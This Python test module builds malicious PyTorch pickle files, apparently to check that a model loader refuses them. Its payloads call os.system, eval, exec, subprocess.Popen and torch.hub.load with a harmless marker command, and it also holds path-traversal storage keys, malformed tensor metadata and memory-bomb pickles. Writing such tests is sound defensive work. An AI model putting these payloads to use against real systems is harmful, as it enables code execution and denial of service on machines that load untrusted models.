"""Attacks by the pickle in pytorch_model.bin: code that it would run, and objects that would fill memory."""

import struct
from typing import List

from attack_case import Case
from pickle_assembler import (BUILD, EMPTY_TUPLE, MARK, ORDERED_DICT, PERSID, PROTO_2, REBUILD, REDUCE, STOP, call,
                              dictionary, global_, integer, ints, pickled, storage, tensor, text, tuple_)
from torch_files import FILE, SAFETENSORS, one_pickle, state, zipped

# run_attacks.py looks whether a file of this name has come to be.
SIGN = "code_has_run"
COMMAND = f"touch {SIGN}"
PYTHON = f"open('{SIGN}', 'w')"
NAME = "lm_head.weight"
SHAPE, NUMEL = (32, 4), 128  # NAME's
MOST = 2**62


def ascii_text(value: str) -> bytes:
    return b"V" + value.encode() + b"\n"


def short_text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def stack_global(module: str, name: str) -> bytes:
    return short_text(module) + short_text(name) + b"\x93"


# Each leaves something on the stack where a tensor should be, and has run by then if it is run at all.
def code_cases():
    system, command = global_("os", "system"), text(COMMAND)
    yield "os_system", call(system, command), ["os.system"]
    yield "posix_system", call(global_("posix", "system"), command), ["posix.system"]
    yield "builtins_eval", call(global_("builtins", "eval"), text(PYTHON)), ["builtins.eval"]
    yield "builtins_exec", call(global_("builtins", "exec"), text(PYTHON)), ["builtins.exec"]
    yield "python_2_eval", call(global_("__builtin__", "eval"), text(PYTHON)), ["__builtin__.eval"]
    yield "getattr_chain", call(call(global_("builtins", "getattr"), call(global_("builtins", "__import__"), text("os")),
                                     text("system")), command), ["builtins.getattr"]
    yield "subprocess", call(global_("subprocess", "Popen"), text(COMMAND)), ["subprocess.Popen"]
    yield "runpy", call(global_("runpy", "_run_code"), text(PYTHON), b"}"), ["runpy._run_code"]
    yield "pickle_in_a_pickle", call(global_("pickle", "loads"), text("x")), ["pickle.loads"]
    yield "torch_load", call(global_("torch", "load"), text("other.bin")), ["torch.load"]
    yield "load_from_bytes", call(global_("torch.storage", "_load_from_bytes"), text("x")), ["_load_from_bytes"]
    yield "torch_hub", call(global_("torch.hub", "load"), text("evil/evil")), ["torch.hub.load"]
    yield "stack_global", stack_global("os", "system") + tuple_(command) + REDUCE, ["os.system"]
    yield "stack_global_dotted", stack_global("torch._utils", "os.system") + tuple_(command) + REDUCE, ["os.system"]
    yield "dotted_global", call(global_("collections", "OrderedDict.__init__.__globals__")), ["OrderedDict.__init__"]
    yield "inst", MARK + command + b"ios\nsystem\n", ["opcode"]
    yield "obj", MARK + system + command + b"o", ["os.system"]
    yield "newobj", global_("subprocess", "Popen") + tuple_(command) + b"\x81", ["subprocess.Popen"]
    yield "newobj_ex", global_("subprocess", "Popen") + tuple_(command) + b"}\x92", ["subprocess.Popen"]
    yield "extension_1", b"\x82\x01", []
    yield "extension_2", b"\x83\x01\x00", []
    yield "extension_4_negative", b"\x84\xff\xff\xff\xff", []
    yield "unused_code", system + b"0" + integer(1), ["os.system"]
    yield "code_kept_in_memo", system + b"q\x00" + b"0" + b"h\x00" + tuple_(command) + REDUCE, ["os.system"]
    yield "name_with_nul", call(global_("os\0", "system"), command), []
    yield "name_of_escape_sequences", call(global_("\x1b[2Jos", "system"), command), []
    yield "name_not_utf8", b"c\xff\xfe\nsystem\n" + tuple_(command) + REDUCE, []
    yield "module_unfinished", b"cos", []
    yield "type_of_rebuild_from_type", call(global_("torch._tensor", "_rebuild_from_type_v2"), system,
                                            global_("torch", "Tensor"), tuple_(command), b"}"), ["os.system"]
    yield "build_on_a_function", REBUILD + dictionary([("__code__", text("x"))]) + BUILD, []
    yield "build_of_a_setstate", ORDERED_DICT + dictionary([("__setstate__", system)]) + BUILD, ["os.system"]
    yield "reduce_of_a_text", text("os.system") + tuple_(command) + REDUCE, []
    yield "reduce_without_a_tuple", REBUILD + command + REDUCE, []
    yield "rebuild_of_texts", call(REBUILD, text("a"), text("b"), text("c"), text("d")), []
    yield "rebuild_of_nothing", call(REBUILD), []


def persistent_id_cases():
    def rebuilt(*arguments):
        return tensor(SHAPE, tuple_(*arguments) + PERSID)
    kind = global_("torch", "FloatStorage")
    yield "persid_a_number", tensor(SHAPE, integer(7) + PERSID), []
    yield "persid_a_text", tensor(SHAPE, b"P/etc/passwd\n"), []
    yield "persid_too_short", rebuilt(text("storage"), kind), []
    yield "persid_of_another_kind", rebuilt(text("module"), kind, text("0"), text("cpu"), integer(NUMEL)), []
    yield "persid_class_a_text", rebuilt(text("storage"), text("FloatStorage"), text("0"), text("cpu"), integer(NUMEL)), []
    yield "persid_class_unknown", rebuilt(text("storage"), global_("torch", "EvilStorage"), text("0"), text("cpu"),
                                          integer(NUMEL)), ["EvilStorage"]
    yield "persid_key_a_path", tensor(SHAPE, storage("../../../../etc/passwd")), []
    yield "persid_key_unknown", tensor(SHAPE, storage("9999")), ["9999"]
    yield "persid_key_a_list", rebuilt(text("storage"), kind, b"]", text("cpu"), integer(NUMEL)), []
    yield "persid_numel_negative", tensor(SHAPE, storage("0", -NUMEL)), []
    yield "persid_numel_huge", tensor(SHAPE, storage("0", MOST)), []
    yield "storage_quantized", tensor(SHAPE, storage("0", NUMEL, "QInt8Storage")), ["QInt8Storage"]


def tensor_cases():
    data = storage("0", NUMEL)
    yield "tensor_offset_negative", tensor(SHAPE, data, offset=-4), []
    yield "tensor_offset_behind_the_storage", tensor(SHAPE, data, offset=4), []
    yield "tensor_offset_wraps_around", tensor(SHAPE, data, offset=2**63 - 1), []
    yield "tensor_stride_negative", tensor(SHAPE, data, stride=(-4, 1)), []
    yield "tensor_stride_huge", tensor(SHAPE, data, stride=(MOST, 1)), []
    yield "tensor_stride_wraps_around", tensor(SHAPE, data, stride=(2**63 - 1, 2**63 - 1)), []
    yield "tensor_stride_missing", tensor(SHAPE, data, stride=(4,)), []
    yield "tensor_size_negative", tensor((-32, -4), data), []
    yield "tensor_size_overflows", tensor((MOST, 4), data), []
    yield "tensor_size_huge_of_one_number", tensor((2**40, 4), data, stride=(0, 0)), []
    yield "tensor_size_a_text", call(REBUILD, data, integer(0), text("32"), ints((4, 1)), b"\x89", ORDERED_DICT), []
    yield "tensor_of_many_dimensions", tensor(SHAPE + (1,) * 5000, data), []
    yield "tensor_larger_than_storage", tensor((33, 4), data), []
    yield "tensor_of_another_shape", tensor((4, 32), data), ["[4, 32]", "[32, 4]"]
    yield "tensor_of_integers", tensor(SHAPE, storage("0", NUMEL, "IntStorage")), []
    yield "tensor_of_doubles_in_float_bytes", tensor(SHAPE, storage("0", NUMEL, "DoubleStorage")), []


# Pickles that are wrong as a whole. All are refused before any storage is looked for.
def whole_cases():
    yield "empty", b"", []
    yield "without_stop", PROTO_2 + b"}", []
    yield "protocol_99", b"\x80\x63}.", []
    yield "unknown_opcode", pickled(b"\xff"), []
    yield "cut_within_a_text", PROTO_2 + b"X\x40\x00\x00\x00abc", []
    yield "cut_within_a_number", PROTO_2 + b"J\x01", []
    yield "a_number", pickled(integer(7)), []
    yield "a_list", pickled(b"]"), []
    yield "nothing_on_the_stack", PROTO_2 + STOP, []
    yield "pop_of_nothing", pickled(b"0"), []
    yield "reduce_of_nothing", pickled(REDUCE), []
    yield "items_without_mark", pickled(b"}" + text("a") + integer(1) + b"u"), []
    yield "items_of_a_number", pickled(integer(1) + MARK + text("a") + integer(1) + b"u"), []
    yield "odd_items", pickled(b"}(" + text("a") + b"u"), []
    yield "mark_left_over", pickled(b"}" + MARK), []
    yield "keys_are_numbers", pickled(b"}(" + integer(1) + tensor(SHAPE, storage()) + b"u"), []
    yield "keys_are_lists", pickled(b"}(]" + integer(1) + b"u"), []
    yield "memo_never_set", pickled(b"h\x07"), []
    yield "memo_index_huge", pickled(b"}r\xff\xff\xff\xff"), []
    yield "memo_index_negative", pickled(b"}p-1\n"), []
    yield "memo_of_a_list_in_itself", pickled(b"]q\x00h\x00a"), []
    yield "dictionary_in_itself", pickled(b"}q\x00" + text("a") + b"h\x00s"), []
    yield "text_of_2_to_the_62", pickled(b"\x8d" + struct.pack("<Q", MOST) + b"abc"), []
    yield "bytes_of_2_to_the_63", pickled(b"\x8e" + struct.pack("<Q", 2**63) + b"abc"), []
    yield "byte_array_of_2_to_the_40", pickled(b"\x96" + struct.pack("<Q", 2**40) + b"abc"), []
    yield "text_of_4_gigabytes", pickled(b"X\xff\xff\xff\xffabc"), []
    yield "string_of_negative_length", pickled(b"T\xff\xff\xff\xffabc"), []
    yield "number_of_2_gigabytes", pickled(b"\x8b\xff\xff\xff\x7fabc"), []
    yield "number_of_negative_length", pickled(b"\x8b\xff\xff\xff\xffabc"), []
    yield "frame_of_2_to_the_63", b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"}.", []
    yield "ascii_code", b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR.", ["pickle"]
    yield "ascii_dictionary_code", b"(dp0\nV" + NAME.encode() + b"\np1\n(V" + COMMAND.encode() + b"\nios\nsystem\ns.", ["pickle"]
    yield "ascii_number_unfinished", b"(dp0\nV" + NAME.encode() + b"\nI12", []
    yield "text_not_utf8", pickled(b"}X\x02\x00\x00\x00\xff\xfe" + integer(1) + b"s"), []
    yield "no_tensors", pickled(b"}"), []


# Megabytes that would become gigabytes, or as many calls on the stack: made when the tests run.
def bomb_cases():
    million = 1_000_000
    yield "marks", lambda: pickled(b"}" + MARK * million), []
    yield "lists", lambda: pickled(b"]" * million), []
    yield "dictionaries", lambda: pickled(b"}" * million), []
    yield "copies", lambda: pickled(b"]" + b"2" * million), []
    yield "nested_tuples", lambda: pickled(EMPTY_TUPLE + b"\x85" * million), []
    yield "nested_lists", lambda: pickled(b"]" * million + b"a" * (million - 1)), []
    yield "nested_dictionaries", lambda: pickled(b"}" + (b"K\x00}" * 300_000) + b"s" * 300_000), []
    yield "memo_entries", lambda: pickled(b"}" + b"\x94" * million), []
    yield "laughs", lambda: pickled(b"]q\x00" + b"".join(
        b"](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) for i in range(60))), []
    yield "number_of_digits", lambda: b"(dp0\nV" + NAME.encode() + b"\nL" + b"9" * million + b"L\ns.", []
    yield "number_of_bytes", lambda: pickled(b"}" + text(NAME) + b"\x8b" + struct.pack("<i", million) + b"\x7f" * million
                                             + b"s"), []
    yield "ordered_dictionaries", lambda: pickled(global_("collections", "OrderedDict") + b"q\x00" + b"h\x00)R" * 300_000), []
    yield "tensors_of_one_storage", lambda: zipped(state({f"x{i}": tensor(SHAPE, storage()) for i in range(20_000)}),
                                                   s18=b""), []


def case(name: str, content, says) -> Case:
    return Case(f"pickle/{name}", {FILE: content}, [FILE] + says, removes=[SAFETENSORS])


def cases() -> List[Case]:
    made = [case(name, zipped(state({NAME: opcodes})), says)
            for make in (code_cases, persistent_id_cases, tensor_cases) for name, opcodes, says in make()]
    made += [case(name, one_pickle(data), says) for name, data, says in whole_cases()]
    for name, data, says in bomb_cases():
        whole = name == "tensors_of_one_storage"  # an archive already
        made.append(case(f"bomb_{name}", data if whole else (lambda data=data: one_pickle(data())), says))
    return made
